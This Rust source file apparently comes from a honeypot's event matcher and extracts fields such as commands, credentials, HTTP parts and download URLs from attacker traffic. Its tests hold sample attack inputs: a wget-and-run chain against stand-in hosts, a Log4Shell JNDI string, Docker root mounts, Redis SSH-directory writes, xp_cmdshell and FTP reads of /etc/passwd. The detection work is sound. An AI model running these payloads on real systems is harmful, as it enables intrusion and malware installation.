//! Field extraction: raw events in, `(Field, text)` pairs out, per protocol (see the `Request`
//! doc comment in `sikker-event` for which protocol fills what). Extraction is a visitor so the
//! matcher never allocates a list of values it is about to throw away.

use crate::field::Field;
use crate::shell;
use sikker_event::{AuthMethod, Event, EventData, Protocol, Request};

/// Matching looks at no more than this many bytes of any one body or input chunk.
pub const MAX_MATCH_TEXT: usize = 64 * 1024;
/// Raw input chunks are looked at up to this many bytes.
pub const MAX_INPUT_TEXT: usize = 4 * 1024;

/// Calls `out` with every field value of one event.
pub fn visit(event: &Event, out: &mut dyn FnMut(Field, &str)) {
    match &event.data {
        EventData::Connect | EventData::Output { .. } | EventData::Disconnect(_) => {}
        EventData::Auth(a) => {
            out(Field::Username, &a.username);
            out(Field::AuthMethod, auth_method(a.method));
            if let Some(p) = &a.password {
                out(Field::Password, p);
                credential(&a.username, p, out);
            }
            if let Some(k) = &a.key_fingerprint {
                out(Field::KeyFingerprint, k);
            }
        }
        EventData::Input { data } => {
            let n = data.0.len().min(MAX_INPUT_TEXT);
            out(Field::Input, &String::from_utf8_lossy(&data.0[..n]));
        }
        EventData::Command { line } => command_line(line, out),
        EventData::Request(r) => request(event.protocol, r, out),
        EventData::Upload(t) => {
            if let Some(n) = &t.name {
                out(Field::UploadName, n);
            }
            if let Some(h) = &t.sha256 {
                out(Field::FileSha256, h);
            }
        }
        EventData::Download(t) => {
            if let Some(u) = &t.url {
                out(Field::DownloadUrl, u);
            }
            if let Some(h) = &t.sha256 {
                out(Field::FileSha256, h);
            }
        }
    }
}

/// Calls `out` with the `credential` value, `user:password`: built on the stack when it is
/// short, as nearly all are, which saves an allocation per login.
fn credential(user: &str, password: &str, out: &mut dyn FnMut(Field, &str)) {
    let mut buf = [0u8; 64];
    let len = user.len() + 1 + password.len();
    if let Some(cred) = buf.get_mut(..len) {
        let (u, rest) = cred.split_at_mut(user.len());
        u.copy_from_slice(user.as_bytes());
        if let Some((colon, p)) = rest.split_first_mut() {
            *colon = b':';
            p.copy_from_slice(password.as_bytes());
        }
        // Two strings joined by an ASCII byte: always UTF-8.
        if let Ok(cred) = std::str::from_utf8(cred) {
            out(Field::Credential, cred);
            return;
        }
    }
    let mut cred = String::with_capacity(len);
    cred.push_str(user);
    cred.push(':');
    cred.push_str(password);
    out(Field::Credential, &cred);
}

/// What one event says about its session as a whole.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Sign {
    Login,
    /// Input, a command, a request or a transfer: more than a connection and logins.
    Activity,
    Neither,
}

/// The SSH handshake's records (the client's version line, its KEXINIT fingerprint) come from
/// every client, scanners included: they are not activity, so a banner grab stays
/// `connect-only`.
pub(crate) fn sign(e: &Event) -> Sign {
    match &e.data {
        EventData::Auth(_) => Sign::Login,
        EventData::Request(r)
            if e.protocol == Protocol::Ssh
                && matches!(r.method.as_deref(), Some("identification" | "kexinit")) =>
        {
            Sign::Neither
        }
        EventData::Input { .. }
        | EventData::Command { .. }
        | EventData::Request(_)
        | EventData::Upload(_)
        | EventData::Download(_) => Sign::Activity,
        EventData::Connect | EventData::Output { .. } | EventData::Disconnect(_) => Sign::Neither,
    }
}

/// Session facts (the `session` field), derived from the kinds of events seen.
pub fn session_facts(events: &[Event], out: &mut dyn FnMut(Field, &str)) {
    let mut auth = false;
    let mut active = false;
    for e in events {
        match sign(e) {
            Sign::Login => auth = true,
            Sign::Activity => active = true,
            Sign::Neither => {}
        }
    }
    if events.is_empty() || active {
        return;
    }
    out(
        Field::Session,
        if auth { "auth-only" } else { "connect-only" },
    );
}

/// Every field value of a list of events (session facts included), in order; for tools and
/// tests. The matcher uses [`visit`] instead.
pub fn fields(events: &[Event]) -> Vec<(Field, String)> {
    let mut v = Vec::new();
    session_facts(events, &mut |f, s| v.push((f, s.to_owned())));
    for e in events {
        visit(e, &mut |f, s| v.push((f, s.to_owned())));
    }
    v
}

fn auth_method(m: AuthMethod) -> &'static str {
    match m {
        AuthMethod::None => "none",
        AuthMethod::Password => "password",
        AuthMethod::KeyboardInteractive => "keyboard_interactive",
        AuthMethod::Publickey => "publickey",
    }
}

fn command_line(line: &str, out: &mut dyn FnMut(Field, &str)) {
    let line = clip(line);
    out(Field::CommandLine, line);
    commands_of_line(line, out);
}

/// The values of a command line besides the line itself: each single command, and the URLs
/// the download tools among them fetch. `line` as [`command_line_text`] gives it. Returns how
/// many commands there were. Generic over `out`, so the caller's matching is inlined into
/// the splitter's callback rather than called through one more indirection per command.
pub fn commands_of_line(line: &str, out: &mut (impl FnMut(Field, &str) + ?Sized)) -> usize {
    let mut commands = 0;
    shell::split_commands_with_program(line, &mut |cmd, program| {
        commands += 1;
        out(Field::Command, cmd);
        shell::download_urls_of(cmd, program, &mut |u| out(Field::DownloadUrl, u));
    });
    commands
}

/// The text of a command line that matching looks at (the `command_line` value).
pub fn command_line_text(line: &str) -> &str {
    clip(line)
}

fn request(protocol: Protocol, r: &Request, out: &mut dyn FnMut(Field, &str)) {
    let method = r.method.as_deref().unwrap_or("");
    let target = r.target.as_deref().unwrap_or("");
    match protocol {
        Protocol::Http | Protocol::Docker | Protocol::Elasticsearch => {
            http_like(r, out);
            if protocol == Protocol::Docker {
                out(
                    Field::DockerApi,
                    &format!("{} {}", method.to_ascii_uppercase(), docker_path(target)),
                );
            }
        }
        Protocol::Redis => {
            if let Some((cmd, rest)) = r.args.split_first() {
                let mut s = cmd.to_ascii_uppercase();
                for a in rest {
                    s.push(' ');
                    s.push_str(a);
                }
                out(Field::RedisCommand, clip(&s));
            }
        }
        Protocol::Mysql | Protocol::Postgresql | Protocol::Mssql => {
            if let Some(sql) = r.fields.get("sql") {
                out(Field::Sql, clip(sql));
            }
        }
        Protocol::Mongodb => {
            if !method.is_empty() {
                out(Field::MongoCommand, method);
            }
            if let Some(b) = &r.body {
                out(Field::MongoBody, clip(&b.to_text()));
            }
        }
        Protocol::Sip | Protocol::Rtsp => {
            let (m, u) = if protocol == Protocol::Sip {
                (Field::SipMethod, Field::SipUri)
            } else {
                (Field::RtspMethod, Field::RtspUri)
            };
            if !method.is_empty() {
                out(m, method);
            }
            if !target.is_empty() {
                out(u, target);
            }
            headers(r, out);
        }
        Protocol::Smtp | Protocol::Imap | Protocol::Ftp => {
            let field = match protocol {
                Protocol::Smtp => Field::SmtpCommand,
                Protocol::Imap => Field::ImapCommand,
                _ => Field::FtpCommand,
            };
            if !method.is_empty() {
                let mut s = method.to_ascii_uppercase();
                for a in &r.args {
                    s.push(' ');
                    s.push_str(a);
                }
                out(field, clip(&s));
            }
            if protocol == Protocol::Smtp {
                if let Some(v) = r.fields.get("mail_from") {
                    out(Field::SmtpSender, v);
                }
                if let Some(v) = r.fields.get("rcpt_to") {
                    for rcpt in v.split(',').map(str::trim).filter(|s| !s.is_empty()) {
                        out(Field::SmtpRecipient, rcpt);
                    }
                }
                if let Some(v) = r.fields.get("subject") {
                    out(Field::SmtpSubject, v);
                }
                if let Some(b) = &r.body {
                    out(Field::SmtpBody, clip(&b.to_text()));
                }
            }
        }
        Protocol::Smb => {
            if !method.is_empty() {
                out(Field::SmbRequest, method);
            }
            if let Some(s) = r.fields.get("share") {
                out(Field::SmbShare, s);
            }
        }
        Protocol::Rdp => {
            if !method.is_empty() {
                out(Field::RdpRequest, method);
            }
            if let Some(c) = r.fields.get("cookie") {
                out(Field::RdpCookie, c);
            }
        }
        Protocol::Ssh | Protocol::Telnet => {}
    }
    if let Some(db) = r.fields.get("database") {
        out(Field::Database, db);
    }
    for (k, v) in r.fields.iter().take(64) {
        if k != "sql" {
            out(Field::RequestField, clip(&format!("{k}={v}")));
        }
    }
}

fn headers(r: &Request, out: &mut dyn FnMut(Field, &str)) {
    for (k, v) in r.headers.iter().take(64) {
        out(
            Field::HttpHeader,
            &format!("{}: {}", k.to_ascii_lowercase(), clip(v)),
        );
    }
    if let Some(ua) = r.header("user-agent") {
        out(Field::UserAgent, ua);
    }
}

fn http_like(r: &Request, out: &mut dyn FnMut(Field, &str)) {
    if let Some(m) = &r.method {
        out(Field::HttpMethod, m);
    }
    let target = clip(r.target.as_deref().unwrap_or(""));
    let (path, query) = match target.split_once('?') {
        Some((p, q)) => (p, Some(q)),
        None => (target, None),
    };
    let path = shell::percent_decode(path, false);
    out(Field::HttpPath, &path);
    shell::urls_in_text(&path, &mut |u| out(Field::DownloadUrl, u));
    if let Some(q) = query {
        let q = shell::percent_decode(q, true);
        out(Field::HttpQuery, &q);
        shell::urls_in_text(&q, &mut |u| out(Field::DownloadUrl, u));
    }
    headers(r, out);
    if let Some(b) = &r.body {
        let n = b.0.len().min(MAX_MATCH_TEXT);
        let text = String::from_utf8_lossy(&b.0[..n]);
        out(Field::HttpBody, &text);
        let decoded = shell::percent_decode(&text, true);
        if decoded != text {
            out(Field::HttpBody, &decoded);
        }
        shell::urls_in_text(&decoded, &mut |u| out(Field::DownloadUrl, u));
    }
}

/// `/v1.41/containers/create?x` → `/containers/create`.
fn docker_path(target: &str) -> &str {
    let path = target.split('?').next().unwrap_or("");
    if let Some(rest) = path.strip_prefix("/v") {
        if let Some(slash) = rest.find('/') {
            if rest[..slash]
                .bytes()
                .all(|b| b.is_ascii_digit() || b == b'.')
            {
                return &rest[slash..];
            }
        }
    }
    path
}

fn clip(s: &str) -> &str {
    if s.len() <= MAX_MATCH_TEXT {
        return s;
    }
    let mut end = MAX_MATCH_TEXT;
    while !s.is_char_boundary(end) {
        end -= 1;
    }
    &s[..end]
}

#[cfg(test)]
mod tests {
    use super::*;
    use sikker_event::{Auth, RawBytes, Transfer};
    use std::collections::BTreeMap;

    fn ev(protocol: Protocol, data: EventData) -> Event {
        Event::new(
            "t",
            uuid::Uuid::now_v7(),
            protocol,
            "203.0.113.1".parse().unwrap(),
            1,
            protocol.standard_port(),
            data,
        )
    }

    fn req(protocol: Protocol, r: Request) -> Vec<(Field, String)> {
        fields(&[ev(protocol, EventData::Request(r))])
    }

    fn has(v: &[(Field, String)], f: Field, s: &str) -> bool {
        v.iter().any(|(g, t)| *g == f && t == s)
    }

    #[test]
    fn ssh_commands_and_downloads() {
        let v = fields(&[ev(
            Protocol::Ssh,
            EventData::Command {
                line: "cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh".into(),
            },
        )]);
        assert!(has(&v, Field::Command, "chmod 777 bins.sh"));
        assert!(has(&v, Field::DownloadUrl, "http://x/bins.sh"));
        assert!(has(
            &v,
            Field::CommandLine,
            "cd /tmp; wget http://x/bins.sh; chmod 777 bins.sh; sh bins.sh"
        ));
        assert_eq!(v.iter().filter(|(f, _)| *f == Field::Command).count(), 4);
    }

    #[test]
    fn auth_fields() {
        let v = fields(&[ev(
            Protocol::Telnet,
            EventData::Auth(Auth {
                method: AuthMethod::Password,
                username: "root".into(),
                password: Some("xc3511".into()),
                key_type: None,
                key_fingerprint: None,
                success: true,
            }),
        )]);
        assert!(has(&v, Field::Username, "root"));
        assert!(has(&v, Field::Password, "xc3511"));
        assert!(has(&v, Field::Credential, "root:xc3511"));
        // Short credentials are joined on the stack, long ones in a string: the same text.
        for (user, password) in [
            ("", ""),
            ("é", "ü:x"),
            ("admin", &*"p".repeat(62)),
            ("a", &*"é".repeat(40)),
        ] {
            let mut got = Vec::new();
            credential(user, password, &mut |f, s| got.push((f, s.to_string())));
            assert_eq!(got, [(Field::Credential, format!("{user}:{password}"))]);
        }
        assert!(has(&v, Field::AuthMethod, "password"));
        assert!(has(&v, Field::Session, "auth-only"));
    }

    #[test]
    fn connect_only_fact() {
        let v = fields(&[ev(Protocol::Rdp, EventData::Connect)]);
        assert_eq!(v, [(Field::Session, "connect-only".to_string())]);
        assert!(fields(&[]).is_empty());
    }

    #[test]
    fn the_ssh_handshake_is_not_activity() {
        let handshake = |method: &str| {
            ev(
                Protocol::Ssh,
                EventData::Request(Request {
                    method: Some(method.into()),
                    target: Some("x".into()),
                    ..Default::default()
                }),
            )
        };
        let banner_grab = [
            ev(Protocol::Ssh, EventData::Connect),
            handshake("identification"),
            handshake("kexinit"),
        ];
        assert_eq!(
            fields(&banner_grab),
            [(Field::Session, "connect-only".to_string())]
        );
        let mut forward = banner_grab.to_vec();
        forward.push(handshake("tcpip-forward"));
        assert!(!has(&fields(&forward), Field::Session, "connect-only"));
        // Elsewhere a request named so is a request like any other.
        let http = [ev(
            Protocol::Http,
            EventData::Request(Request {
                method: Some("kexinit".into()),
                ..Default::default()
            }),
        )];
        assert!(!has(&fields(&http), Field::Session, "connect-only"));
    }

    #[test]
    fn http_fields() {
        let v = req(
            Protocol::Http,
            Request {
                method: Some("POST".into()),
                target: Some("/cgi-bin/x%2Ecgi?cmd=wget+http://9.9.9.9/m.sh".into()),
                headers: vec![("User-Agent".into(), "Mozila/5.0".into())],
                body: Some(RawBytes(b"a=%24%7Bjndi%3Aldap%3A%2F%2Fe%2Fx%7D".to_vec())),
                ..Default::default()
            },
        );
        assert!(has(&v, Field::HttpMethod, "POST"));
        assert!(has(&v, Field::HttpPath, "/cgi-bin/x.cgi"));
        assert!(has(&v, Field::HttpQuery, "cmd=wget http://9.9.9.9/m.sh"));
        assert!(has(&v, Field::DownloadUrl, "http://9.9.9.9/m.sh"));
        assert!(has(&v, Field::UserAgent, "Mozila/5.0"));
        assert!(has(&v, Field::HttpHeader, "user-agent: Mozila/5.0"));
        assert!(has(&v, Field::HttpBody, "a=${jndi:ldap://e/x}"));
    }

    #[test]
    fn docker_and_elasticsearch() {
        let v = req(
            Protocol::Docker,
            Request {
                method: Some("post".into()),
                target: Some("/v1.41/containers/create?name=x".into()),
                body: Some(RawBytes(br#"{"HostConfig":{"Binds":["/:/mnt"]}}"#.to_vec())),
                ..Default::default()
            },
        );
        assert!(has(&v, Field::DockerApi, "POST /containers/create"));
        assert!(has(
            &v,
            Field::HttpBody,
            r#"{"HostConfig":{"Binds":["/:/mnt"]}}"#
        ));
        let v = req(
            Protocol::Elasticsearch,
            Request {
                method: Some("GET".into()),
                target: Some("/_search?source=x".into()),
                ..Default::default()
            },
        );
        assert!(has(&v, Field::HttpPath, "/_search"));
    }

    #[test]
    fn redis_sql_mongo() {
        let v = req(
            Protocol::Redis,
            Request {
                args: vec![
                    "config".into(),
                    "set".into(),
                    "dir".into(),
                    "/root/.ssh".into(),
                ],
                ..Default::default()
            },
        );
        assert!(has(&v, Field::RedisCommand, "CONFIG set dir /root/.ssh"));
        let mut fields_ = BTreeMap::new();
        fields_.insert("sql".to_string(), "EXEC xp_cmdshell 'whoami'".to_string());
        fields_.insert("database".to_string(), "master".to_string());
        let v = req(
            Protocol::Mssql,
            Request {
                fields: fields_,
                ..Default::default()
            },
        );
        assert!(has(&v, Field::Sql, "EXEC xp_cmdshell 'whoami'"));
        assert!(has(&v, Field::Database, "master"));
        assert!(has(&v, Field::RequestField, "database=master"));
        let v = req(
            Protocol::Mongodb,
            Request {
                method: Some("dropDatabase".into()),
                body: Some(RawBytes(b"{\"dropDatabase\":1}".to_vec())),
                ..Default::default()
            },
        );
        assert!(has(&v, Field::MongoCommand, "dropDatabase"));
        assert!(has(&v, Field::MongoBody, "{\"dropDatabase\":1}"));
    }

    #[test]
    fn sip_rtsp_smtp_imap_ftp_smb_rdp() {
        let v = req(
            Protocol::Sip,
            Request {
                method: Some("OPTIONS".into()),
                target: Some("sip:100@1.2.3.4".into()),
                headers: vec![("User-Agent".into(), "friendly-scanner".into())],
                ..Default::default()
            },
        );
        assert!(has(&v, Field::SipMethod, "OPTIONS"));
        assert!(has(&v, Field::SipUri, "sip:100@1.2.3.4"));
        assert!(has(&v, Field::UserAgent, "friendly-scanner"));
        let v = req(
            Protocol::Rtsp,
            Request {
                method: Some("DESCRIBE".into()),
                target: Some("rtsp://1.2.3.4/live.sdp".into()),
                ..Default::default()
            },
        );
        assert!(has(&v, Field::RtspMethod, "DESCRIBE"));
        assert!(has(&v, Field::RtspUri, "rtsp://1.2.3.4/live.sdp"));
        let mut f = BTreeMap::new();
        f.insert("mail_from".to_string(), "a@b.c".to_string());
        f.insert("rcpt_to".to_string(), "x@y.z, w@v.u".to_string());
        f.insert("subject".to_string(), "test".to_string());
        let v = req(
            Protocol::Smtp,
            Request {
                method: Some("data".into()),
                fields: f,
                body: Some(RawBytes(b"hello".to_vec())),
                ..Default::default()
            },
        );
        assert!(has(&v, Field::SmtpCommand, "DATA"));
        assert!(has(&v, Field::SmtpSender, "a@b.c"));
        assert!(has(&v, Field::SmtpRecipient, "w@v.u"));
        assert!(has(&v, Field::SmtpSubject, "test"));
        assert!(has(&v, Field::SmtpBody, "hello"));
        let v = req(
            Protocol::Imap,
            Request {
                method: Some("capability".into()),
                ..Default::default()
            },
        );
        assert!(has(&v, Field::ImapCommand, "CAPABILITY"));
        let v = req(
            Protocol::Ftp,
            Request {
                method: Some("SITE".into()),
                args: vec!["CPFR".into(), "/etc/passwd".into()],
                ..Default::default()
            },
        );
        assert!(has(&v, Field::FtpCommand, "SITE CPFR /etc/passwd"));
        let mut f = BTreeMap::new();
        f.insert("share".to_string(), "\\\\h\\IPC$".to_string());
        let v = req(
            Protocol::Smb,
            Request {
                method: Some("tree_connect".into()),
                fields: f,
                ..Default::default()
            },
        );
        assert!(has(&v, Field::SmbRequest, "tree_connect"));
        assert!(has(&v, Field::SmbShare, "\\\\h\\IPC$"));
        let mut f = BTreeMap::new();
        f.insert("cookie".to_string(), "mstshash=Administr".to_string());
        let v = req(
            Protocol::Rdp,
            Request {
                method: Some("connection_request".into()),
                fields: f,
                ..Default::default()
            },
        );
        assert!(has(&v, Field::RdpRequest, "connection_request"));
        assert!(has(&v, Field::RdpCookie, "mstshash=Administr"));
    }

    #[test]
    fn transfers() {
        let v = fields(&[
            ev(
                Protocol::Ssh,
                EventData::Download(Transfer {
                    url: Some("http://h/x".into()),
                    sha256: Some("ab".repeat(32)),
                    ..Default::default()
                }),
            ),
            ev(
                Protocol::Ftp,
                EventData::Upload(Transfer {
                    name: Some("x.sh".into()),
                    ..Default::default()
                }),
            ),
        ]);
        assert!(has(&v, Field::DownloadUrl, "http://h/x"));
        assert!(has(&v, Field::FileSha256, &"ab".repeat(32)));
        assert!(has(&v, Field::UploadName, "x.sh"));
    }
}
